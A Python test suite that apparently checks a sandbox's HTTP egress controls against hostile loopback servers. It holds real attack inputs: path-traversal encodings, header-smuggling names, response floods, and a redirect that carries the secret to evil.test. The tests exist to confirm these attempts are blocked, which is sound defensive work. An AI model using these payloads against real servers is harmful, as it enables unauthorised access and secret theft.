"""Attempts against the egress, from a program and from the server that it may use: to leave the grant, to
read its secret, to take more bytes or time than allowed. Each server is the attempt's own, on the
loopback."""

import base64
import html
import json
import socket
import threading
import time
import unittest
import urllib.parse

from attack import MIB, SANITIZED, Attack

SECRET = "sekret-key-0123456789"


class Server:
    """Calls `answer(connection, request)` for each request on a connection of its own, and closes it."""

    def __init__(self, answer):
        self.answer = answer
        self.requests = []
        self.sent = 0
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            with connection:
                try:
                    request = b""
                    while b"\r\n\r\n" not in request:
                        piece = connection.recv(65536)
                        if not piece:
                            break
                        request += piece
                    self.requests.append(request.decode("latin-1"))
                    self.answer(self, connection, request)
                except OSError:
                    pass

    def flood(self, connection, piece, most=256 * MIB):
        """Sends until the other side has enough, or the attempt has failed."""
        while self.sent < most:
            connection.sendall(piece)
            self.sent += len(piece)

    def close(self):
        self.listener.close()


def reply(body, head=""):
    def answer(server, connection, request):
        connection.sendall(f"HTTP/1.1 200 OK\r\n{head}Content-Length: {len(body)}\r\n\r\n{body}".encode("latin-1"))
    return answer


def flood(head, piece):
    def answer(server, connection, request):
        connection.sendall(head)
        server.flood(connection, piece)
    return answer


CHUNKED = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
GZIP = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n"


class HttpAttack(Attack):
    def serve(self, answer):
        server = Server(answer)
        self.addCleanup(server.close)
        return server

    def fetch(self, server, path="/v1/a", options=(), headers="", grants=1, secret=False, header="", prefix="/v1/", count=1,
              key=SECRET):
        """A program makes `count` requests; returns the process and its report. Failures are in the
        report's host calls."""
        url = path if path.startswith("http") else f"http://127.0.0.1:{server.port}{path}"
        extra = f'header = {{ Authorization = {{ prefix = "Bearer ", secret = "KEY" }} }}\n' if secret else header
        policy = "".join(f'[[http]]\nmethods = ["GET"]\nurl = "http://127.0.0.1:{server.port}{prefix}{"" if i == 0 else f"{i}/"}*"\n'
                         f'timeout = "60s"\n{extra if i == 0 else ""}' for i in range(grants))
        self.file("policy.toml", policy)
        ask = f'(call $http.request (string "GET") (string "{url}") (string "{quoted(headers)}") (string ""))'
        program = f'''(func (export "run") (local $i i32) (local $body i32) (local $e i32)
          (loop $again
            {ask} (local.set $e) (local.set $body)
            (if (i32.eqz (local.get $e)) (then (call $io.print (local.get $body))))
            (local.set $i (i32.add (local.get $i) (i32.const 1)))
            (br_if $again (i32.lt_u (local.get $i) (i32.const {count})))))'''
        done = self.membrane("run", self.file("p.wat", program), "--policy", "policy.toml", "--json", *options, KEY=key)
        return done, json.loads(done.stdout)

    def assert_refused(self, server, report, errno=("EINVAL", "EACCES")):
        self.assertTrue(report["host_calls"], report)
        for call in report["host_calls"]:
            self.assertIn(call["errno"], errno, report)
        self.assertEqual(server.requests, [])

    # -- bytes on the wire

    def assert_counted(self, answer):
        server = self.serve(answer)
        done, report = self.fetch(server, options=("--bytes-in", "4KiB", "--wall", "60s"))
        self.assertIn(report["host_calls"][0]["errno"], ("EBUDGET", "E2BIG", "EPROTO"), report)
        self.assertLess(server.sent, 16 * MIB)  # what the system's buffers hold
        self.assert_memory(done, 64 * MIB)

    def test_an_endless_chunk_extension(self):
        self.assert_counted(flood(CHUNKED + b"5;x=", b"y" * 65536))

    def test_chunks_that_are_all_extension(self):
        self.assert_counted(flood(CHUNKED, (b"1;" + b"y" * 4000 + b"\r\nx\r\n") * 16))

    def test_an_endless_name_in_the_head_of_gzip(self):
        self.assert_counted(flood(GZIP + b"\x1f\x8b\x08\x08\0\0\0\0\0\x03", b"n" * 65536))

    def test_endless_empty_blocks_of_deflate(self):
        self.assert_counted(flood(GZIP + b"\x1f\x8b\x08\0\0\0\0\0\0\x03", b"\0\0\0\xff\xff" * 13000))

    def test_endless_interim_answers(self):
        self.assert_counted(flood(b"", b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" * 1000))

    def test_endless_headers(self):
        self.assert_counted(flood(b"HTTP/1.1 200 OK\r\n", b"X-A: b\r\n" * 8000))

    def test_one_header_without_end(self):
        self.assert_counted(flood(b"HTTP/1.1 200 OK\r\nX-A: ", b"y" * 65536))

    def test_endless_trailers(self):
        self.assert_counted(flood(CHUNKED + b"1\r\nx\r\n0\r\n", b"X-A: b\r\n" * 8000))

    # -- time

    def assert_wall(self, answer):
        server = self.serve(answer)
        done, report = self.fetch(server, options=("--wall", "500ms"))
        self.assertEqual(report["outcome"], "timed_out", report)

    def test_a_server_that_never_answers(self):
        self.assert_wall(lambda server, connection, request: connection.recv(1))

    def test_a_server_that_drips(self):
        def answer(server, connection, request):
            connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
            while True:
                connection.sendall(b"x")
                time.sleep(0.05)
        self.assert_wall(answer)

    def test_redirects_without_end(self):
        def answer(server, connection, request):
            connection.sendall(b"HTTP/1.1 302 x\r\nLocation: /v1/a\r\nContent-Length: 0\r\n\r\n")
        server = self.serve(answer)
        _, report = self.fetch(server)
        self.assertEqual(report["host_calls"][0]["errno"], "EQUOTA", report)
        self.assertLess(len(server.requests), 10)

    def test_a_tower_of_percent_signs_under_twenty_grants(self):
        server = self.serve(reply("x"))
        url = "/" + "%" + "25" * 3980 + "2e"
        done, report = self.fetch(server, path=url, grants=20, count=100)
        self.assertEqual(server.requests, [])
        self.assert_cpu(done, 4)  # 100 calls

    def test_a_body_that_is_almost_the_secret_everywhere(self):
        server = self.serve(reply(SECRET[:-1] * (200_000 if not SANITIZED else 20_000)))
        done, _ = self.fetch(server, secret=True, options=("--output", "64MiB"))
        self.assert_cpu(done, 6)

    # -- out of the grant

    def assert_path_refused(self, path):
        server = self.serve(reply("x"))
        _, report = self.fetch(server, path=path)
        self.assert_refused(server, report)

    def test_overlong_dots(self):
        self.assert_path_refused("/v1/%c0%ae%c0%ae/admin")

    def test_overlong_slashes_in_three_bytes(self):
        self.assert_path_refused("/v1/..%e0%80%afadmin")

    def test_dots_encoded_four_times(self):
        self.assert_path_refused("/v1/%2525252e%2525252e/admin")

    def test_fullwidth_dots(self):
        self.assert_path_refused("/v1/%ef%bc%8e%ef%bc%8e/admin")

    def test_dots_with_parameters(self):
        self.assert_path_refused("/v1/..;a=b/admin")

    def test_an_encoded_backslash(self):
        self.assert_path_refused("/v1/..%5cadmin")

    def test_user_information_that_looks_like_the_host(self):
        server = self.serve(reply("x"))
        _, report = self.fetch(server, path=f"http://127.0.0.1:{server.port}@localhost:{server.port}/v1/a")
        self.assert_refused(server, report)

    # -- headers

    def assert_header_refused(self, name, header=""):
        server = self.serve(reply("x"))
        _, report = self.fetch(server, headers=json.dumps({name: "/admin"}), header=header)
        self.assert_refused(server, report)
        self.assertIn(name, report["host_calls"][0]["reason"])

    def assert_header_replaced(self, name, header):
        server = self.serve(reply("x"))
        self.fetch(server, headers=json.dumps({name: "/admin"}), header=header)
        (request,) = server.requests
        self.assertIn("\r\nX-Role: reader\r\n", request)
        self.assertNotIn("admin", request)

    def test_a_role_with_an_underscore(self):
        self.assert_header_replaced("X_Role", 'header = { X-Role = "reader" }\n')

    def test_a_role_with_a_dot(self):
        self.assert_header_replaced("x.role", 'header = { X-Role = "reader" }\n')

    def test_the_original_uri(self):
        self.assert_header_refused("X-Original-Uri")

    def test_a_forwarded_host(self):
        self.assert_header_refused("X_Forwarded_Host")

    def test_a_method_by_another_name(self):
        self.assert_header_refused("X-HTTP-Method-Override")

    # -- the secret

    def test_the_secret_in_pieces_of_seven_bytes(self):
        def answer(server, connection, request):
            connection.sendall(b"HTTP/1.1 206 Partial Content\r\nContent-Length: 7\r\n\r\n" + SECRET[:7].encode())
        server = self.serve(answer)
        done, report = self.fetch(server, secret=True, headers='{"Range":"bytes=0-6"}')
        self.assert_refused(server, report)
        done, report = self.fetch(server, secret=True)
        self.assertEqual(report["host_calls"][0]["errno"], "EPROTO", report)
        self.assertNotIn(SECRET[:7].encode(), done.stdout)

    def test_the_secret_echoed_in_base64(self):
        whole = base64.b64encode(f"user:{SECRET}".encode()).decode()
        done, _ = self.fetch(self.serve(reply(whole)), secret=True)
        self.assertNotIn(whole[12:24].encode(), done.stdout)

    def assert_hidden(self, key, echo, shown=""):
        """The program prints an answer with `echo`, the key in some spelling; only `shown` of it may
        remain."""
        done, report = self.fetch(self.serve(reply(f"<|{echo}|>")), secret=True, key=key)
        self.assertEqual(report["host_calls"][0]["errno"], "OK", report)
        printed = report["stdout"]
        self.assertEqual(len(printed), len(f"<|{echo}|>"))
        self.assertEqual(printed.strip("<|>").replace("*", ""), shown)

    def test_the_secret_echoed_in_encodings_of_encodings(self):
        key = 'se/kret+\\"key" ~?>?????\u00e9\u00e8 50%41'
        raw = key.encode()
        encoded = base64.b64encode(raw).decode()
        self.assertIn("/", encoded)
        in_json = json.dumps(key)[1:-1]
        url = base64.urlsafe_b64encode(raw).decode().rstrip("=")
        padding = encoded[len(encoded.rstrip("=")):]
        echoes = {
            "base64 in JSON with escaped slashes": (encoded.replace("/", "\\/"), padding),
            "base64 in a URL": (urllib.parse.quote(encoded.rstrip("="), safe=""), ""),
            "base64 in a URL in a URL": (urllib.parse.quote(urllib.parse.quote(encoded.rstrip("="), safe=""), safe=""), ""),
            "base64 in lines, in JSON": (json.dumps(base64.encodebytes(raw * 3).decode().strip().rstrip("="))[1:-1], ""),
            "a form": (urllib.parse.quote_plus(key), ""),
            "a form in JSON": (json.dumps(urllib.parse.quote_plus(key))[1:-1], ""),
            "JSON of ASCII": (in_json, ""),
            "JSON in JSON": (json.dumps(in_json)[1:-1], ""),
            "JSON in base64": (base64.b64encode(in_json.encode()).decode().rstrip("="), ""),
            "JSON in a URL": (urllib.parse.quote(in_json), ""),
            "HTML": (html.escape(key), ""),
            "HTML in JSON": (json.dumps(html.escape(key))[1:-1], ""),
            "base64 in base64": (base64.b64encode(url.encode()).decode().rstrip("="), ""),
            "base64 in hex": (url.encode().hex(), ""),
            "hex in base64": (base64.b64encode(raw.hex().encode()).decode().rstrip("="), ""),
            "UTF-8 taken for Latin-1, in JSON": (json.dumps(raw.decode("latin-1"))[1:-1], ""),
        }
        for how, (echo, shown) in echoes.items():
            with self.subTest(how):
                self.assert_hidden(key, echo.encode().decode("latin-1"), shown)

    def test_what_stands_before_the_secret_does_not_hide_it(self):
        self.assert_hidden("41cd/efghij", "100%41cd%2fefghij", "100%")
        self.assert_hidden("nabcd/efghij", "C:\\nabcd\\/efghij", "C:\\")

    def test_a_body_that_is_slow_to_look_through(self):
        """Each byte can be read in many ways; the time for a megabyte stays within seconds."""
        for piece in ("\\", "%25", "XFxc", "5c", "&#38;", "\\u005c", "YVZCT1J3MEtHZ29B"):
            with self.subTest(piece):
                body = piece * ((MIB if not SANITIZED else MIB // 64) // len(piece))
                done, report = self.fetch(self.serve(reply(body)), secret=True, options=("--output", "64MiB"))
                self.assertEqual(report["stdout"], body)
                self.assert_memory(done, 128 * MIB)

    def test_the_secret_echoed_in_a_header_and_a_redirect(self):
        def answer(server, connection, request):
            connection.sendall(f"HTTP/1.1 302 x\r\nLocation: http://evil.test/{SECRET}\r\nX-Echo: {SECRET}\r\n"
                               "Content-Length: 0\r\n\r\n".encode())
        done, _ = self.fetch(self.serve(answer), secret=True)
        self.assertNotIn(SECRET.encode(), done.stdout + done.stderr)


def quoted(text):
    return text.replace("\\", "\\\\").replace('"', '\\"')


if __name__ == "__main__":
    unittest.main()
